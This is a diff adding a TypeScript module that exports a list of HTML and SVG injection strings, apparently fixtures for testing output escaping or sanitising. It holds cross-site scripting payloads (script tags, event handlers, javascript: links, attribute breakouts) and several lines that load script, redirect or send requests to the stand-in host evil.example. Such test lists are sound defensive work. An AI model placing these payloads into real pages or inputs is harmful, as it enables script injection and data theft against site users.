@@ -1,0 +1,36 @@
+/** Texts that become something in HTML or SVG when they are put into it as they are. */
+
+const URL = 'https://evil.example/x'
+
+export const HTML_PAYLOADS: readonly string[] = [
+  '<script>alert(1)</script>',
+  `<script src="${URL}.js"></script>`,
+  '<img src=x onerror=alert(1)>',
+  `<img src="${URL}.png">`,
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  `<iframe src="${URL}"></iframe>`,
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  `<object data="${URL}"></object><embed src="${URL}">`,
+  `<link rel=stylesheet href="${URL}.css">`,
+  `<style>@import "${URL}.css"; * { background: url(${URL}.png) }</style>`,
+  '</style><script>alert(1)</script>',
+  '</title><script>alert(1)</script>',
+  '</text></svg><img src=x onerror=alert(1)>',
+  '--><img src=x onerror=alert(1)>',
+  ']]><b>x</b>',
+  `<meta http-equiv=refresh content="0;url=${URL}">`,
+  `<base href="${URL}/">`,
+  `<form action="${URL}"><button>OK</button></form>`,
+  `<a href="${URL}" ping="${URL}">click</a>`,
+  '<a href="javascript:alert(1)">click</a>',
+  '" onmouseover="alert(1)',
+  "' onfocus='alert(1)' autofocus tabindex='0",
+  '" style="background:url(https://evil.example/x.png)',
+  '`><b>x</b>',
+  '<b>bold</b><h1>owned</h1><table><tr><td>x',
+  '<template><b>x</b></template><dialog open>x</dialog>',
+  '&lt;b&gt; &#60;b&#62; &#x3C;b>',
+  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
+]
